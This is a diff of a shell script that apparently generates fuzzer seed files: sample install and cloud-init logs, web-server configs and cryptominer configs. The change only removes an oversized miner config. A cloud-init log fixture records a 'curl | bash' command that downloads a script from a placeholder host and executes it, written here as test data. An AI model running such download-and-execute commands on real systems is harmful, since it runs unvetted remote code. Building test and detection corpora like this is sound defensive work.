@@ -32,4 +32,5 @@ printf 'Nov 20 10:00:01 Installed: 2:nmap-ncat-7.92-1.el9.x86_64\n2026-11-20T10:
 printf "2017-08-08 20:05:07,147 - util.py[DEBUG]: Cloud-init v. 0.7.9 running 'init-local' at Tue, 08 Aug 2017 20:05:07 +0000. Up 6.26 seconds.\nTraceback (most recent call last):\n2017-08-08 20:05:09,100 - subp.py[DEBUG]: Running command ['sh', '-c', 'curl -fsSL http://x/i.sh | bash']\n" > "$out/cloud-init.log"
 printf 'server {\n root /var/www/a; location /b { alias /srv/b/; }\n root $x;\n}\nDocumentRoot "/srv/site"\nAlias /icons/ "/usr/share/apache2/icons/"\n' > "$out/nginx.conf"
 python3 "$here/../../scripts/gen-miner-configs.py" "$out/miner" >/dev/null 2>&1 && {
+  rm -f "$out/miner/huge.json" # over the fuzzers' 64 KiB inputs
   for f in "$out"/miner/*; do mv "$f" "$out/miner_$(basename "$f")"; done; rmdir "$out/miner"; } || true
